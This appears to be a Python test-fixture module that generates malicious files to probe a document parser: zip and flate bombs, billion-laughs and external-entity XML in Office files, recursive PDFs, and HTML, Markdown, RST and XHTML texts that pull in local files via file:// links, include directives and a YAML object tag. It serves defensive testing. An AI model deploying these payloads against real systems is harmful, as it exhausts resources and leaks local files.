"""Files made to harm whoever opens them, one function a kind: what they are small to keep and costly to read by."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import docx
import openpyxl
import pptx

MEBIBYTE = 2**20
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
BILLION_LAUGHS = f'<!DOCTYPE x [<!ENTITY l0 "lock all doors ">{LAUGHS}]>'
EMPTY_ROW = b"<row><c/><c/></row>"
SECRET = "The combination of the safe is 4711."


def repeated(unit: bytes, size: int) -> Iterator[bytes]:
    """At least `size` bytes, a mebibyte at a time."""
    chunk = unit * (MEBIBYTE // len(unit) + 1)
    for _ in range(size // len(chunk) + 1):
        yield chunk


def write_part(archive: zipfile.ZipFile, name: str, *chunks: bytes | Iterator[bytes]) -> None:
    """One part of an Office file, never whole in memory."""
    with archive.open(name, "w", force_zip64=True) as part:
        for chunk in chunks:
            for some in [chunk] if isinstance(chunk, bytes) else chunk:
                part.write(some)


def with_part(plain: bytes, target: Path, name: str, *chunks: bytes | Iterator[bytes]) -> Path:
    """An Office file whose part `name` is another."""
    with zipfile.ZipFile(io.BytesIO(plain)) as source, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for entry in source.namelist():
            if entry != name:
                archive.writestr(entry, source.read(entry))
        write_part(archive, name, *chunks)
    return target


def part_of(plain: bytes, name: str) -> str:
    with zipfile.ZipFile(io.BytesIO(plain)) as archive:
        return archive.read(name).decode()


def plain_docx() -> bytes:
    document = docx.Document()
    document.add_paragraph("LOCK")
    return _saved(document.save)


def plain_xlsx() -> bytes:
    book = openpyxl.Workbook()
    book.active.append(["LOCK", "all", "doors"])
    return _saved(book.save)


def plain_pptx() -> bytes:
    presentation = pptx.Presentation()
    slide = presentation.slides.add_slide(presentation.slide_layouts[5])
    slide.shapes.title.text = "LOCK"
    return _saved(presentation.save)


def _saved(save: Callable[[io.BytesIO], None]) -> bytes:
    stream = io.BytesIO()
    save(stream)
    return stream.getvalue()


OFFICE = {
    ".docx": (plain_docx, "word/document.xml"),
    ".xlsx": (plain_xlsx, "xl/worksheets/sheet1.xml"),
    ".pptx": (plain_pptx, "ppt/slides/slide1.xml"),
}
"""Suffix → a small file, and its part that holds the text."""


def zip_bomb(folder: Path, suffix: str, size: int) -> Path:
    """An Office file of a few kilobytes that unpacks to `size` bytes."""
    plain, part = OFFICE[suffix]
    return with_part(plain(), folder / f"bomb{suffix}", part, repeated(b" ", size))


def paragraphs_bomb(folder: Path, size: int) -> Path:
    """A .docx whose text is `size` bytes of XML elements, each of which costs far more as a node of a tree."""
    before, after = part_of(plain_docx(), "word/document.xml").split("<w:p>", 1)
    after = after[after.index("</w:p>") + len("</w:p>") :]
    body = repeated(b"<w:p><w:r><w:t>a</w:t></w:r></w:p>", size)
    return with_part(plain_docx(), folder / "paragraphs.docx", "word/document.xml", before.encode(), body, after.encode())


def entity_bomb(folder: Path, suffix: str) -> Path:
    """An Office file whose text, a kilobyte, expands to ten thousand million words."""
    return _with_entity(folder / f"laughs{suffix}", suffix, BILLION_LAUGHS, "&l9;")


def external_entity(folder: Path, suffix: str, address: str) -> Path:
    """An Office file that asks its reader to put in what stands at an address."""
    return _with_entity(folder / f"external{suffix}", suffix, f'<!DOCTYPE x [<!ENTITY e SYSTEM "{address}">]>', "LOCK &e;")


def _with_entity(target: Path, suffix: str, doctype: str, words: str) -> Path:
    plain, part = OFFICE[suffix]
    content, name = plain(), part
    if suffix == ".xlsx":  # words stand in a part of their own
        rows = '<row r="1"><c r="A1" t="inlineStr"><is><t>LOCK</t></is></c></row>'
        sheet = part_of(content, part)
        start, end = sheet.index("<row"), sheet.index("</sheetData>")
        text = sheet[:start] + rows + sheet[end:]
    else:
        text = part_of(content, part)
    declaration, _, rest = text.rpartition("?>")
    head = f"{declaration}?>" if declaration else ""
    return with_part(content, target, name, (head + doctype + rest.replace("LOCK", words)).encode())


def many_parts(folder: Path, count: int) -> Path:
    """A .docx of which the table of contents is all there is to it."""
    file = folder / "many-parts.docx"
    file.write_bytes(plain_docx())
    with zipfile.ZipFile(file, "a") as archive:
        for number in range(count):
            archive.writestr(f"word/media/{number}.png", b"")
    return file


REACHING_OUT = {
    ".html": '<p>Lock all doors.</p><iframe src="file://TARGET"></iframe><object data="file://TARGET"></object>',
    ".md": '---\ntitle: !!python/object/apply:builtins.open ["TARGET"]\n---\nLock all doors.\n\n![x](file://TARGET)\n',
    ".rst": "Lock all doors.\n\n.. include:: TARGET\n\n.. raw:: html\n   :file: TARGET\n\n.. csv-table:: x\n   :file: TARGET\n",
    ".xhtml": '<!DOCTYPE html [<!ENTITY e SYSTEM "file://TARGET">]><html><body><p>Lock all doors. &e;</p></body></html>',
}
"""Suffix → a text that asks its reader to put in what stands in the file TARGET."""


def empty_rows(folder: Path, count: int) -> Path:
    """A workbook with three words, and `count` rows or more that hold cells and no value."""
    sheet = part_of(plain_xlsx(), "xl/worksheets/sheet1.xml")
    end = sheet.index("</sheetData>")
    rows = repeated(EMPTY_ROW, count * len(EMPTY_ROW))
    return with_part(plain_xlsx(), folder / "empty-rows.xlsx", "xl/worksheets/sheet1.xml", sheet[:end].encode(), rows, sheet[end:].encode())


def sparse_text(folder: Path, size: int) -> Path:
    """A text file of `size` bytes that takes a block of the disk; what is not written are zeros."""
    file = folder / "sparse.txt"
    with file.open("wb") as stream:
        stream.write(b"Lock all doors.\n")
        stream.truncate(size)
    return file


def pdf_of(objects: dict[int, bytes]) -> bytes:
    """A PDF of raw objects, of which 1 is the catalogue."""
    out = bytearray(b"%PDF-1.7\n")
    places = {}
    for number, content in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = len(out)
    count = max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % count
    for number in range(1, count):
        out += b"%010d 00000 %s \n" % (places.get(number, 0), b"n" if number in places else b"f")
    return bytes(out + b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (count, table))


def stream_of(content: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), entries, content)


CATALOGUE, FONT = b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> %s >> >>"
WORDS = b"BT /F 12 Tf 72 700 Td (Lock all doors.) Tj ET"


def recursive_pdfs() -> dict[str, bytes]:
    """PDFs whose objects hold themselves: the tree of pages, a form, the bookmarks, the page labels, a stream's length, and arrays."""
    one = {1: CATALOGUE, 2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", 3: PAGE % b"", 4: stream_of(WORDS), 5: FONT}
    form = stream_of(b"/X Do " + WORDS, b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << /XObject << /X 6 0 R >> >>")
    outlines = b"<< /Type /Catalog /Pages 2 0 R /Outlines 6 0 R >>"
    unsized = (PAGE % b"").replace(b"/MediaBox [0 0 612 792]", b"")
    item = b"<< /Title (Doors) /Parent 6 0 R /First 7 0 R /Last 7 0 R /Next 7 0 R /Prev 7 0 R /Dest [3 0 R /Fit] >>"
    return {
        "pages": pdf_of({**one, 2: b"<< /Type /Pages /Kids [2 0 R 3 0 R 2 0 R] /Count 3 >>"}),
        "form": pdf_of({**one, 3: PAGE % b"/XObject << /X 6 0 R >>", 4: stream_of(WORDS + b" /X Do"), 6: form}),
        "bookmarks": pdf_of({**one, 1: outlines, 6: b"<< /First 7 0 R /Last 7 0 R /Count 1 >>", 7: item}),
        "labels": pdf_of({**one, 1: b"<< /Type /Catalog /Pages 2 0 R /PageLabels 6 0 R >>", 6: b"<< /Kids [6 0 R 6 0 R] >>"}),
        "length": pdf_of({**one, 4: b"<< /Length 4 0 R >>\nstream\n" + WORDS + b"\nendstream"}),
        "arrays": pdf_of({**one, 1: CATALOGUE[:-2] + b"/Names " + b"[" * 100_000 + b"]" * 100_000 + b">>"}),
        "parent": pdf_of({**one, 2: b"<< /Type /Pages /Parent 2 0 R /Kids [3 0 R] /Count 1 >>", 3: unsized}),
    }


def many_pages(folder: Path, count: int) -> Path:
    """A PDF whose tree of pages names one page `count` times."""
    kids = b"3 0 R " * count
    tree = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count)
    file = folder / "many-pages.pdf"
    file.write_bytes(pdf_of({1: CATALOGUE, 2: tree, 3: PAGE % b"", 4: stream_of(WORDS), 5: FONT}))
    return file


def flate_bomb(folder: Path, size: int) -> Path:
    """A PDF whose page, compressed, is `size` bytes of instructions."""
    import zlib

    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(some) for some in repeated(b"BT /F 12 Tf 72 700 Td (a) Tj ET\n", size)) + packer.flush()
    file = folder / "flate.pdf"
    one = {1: CATALOGUE, 2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", 3: PAGE % b"", 5: FONT}
    file.write_bytes(pdf_of({**one, 4: stream_of(packed, b"/Filter /FlateDecode")}))
    return file
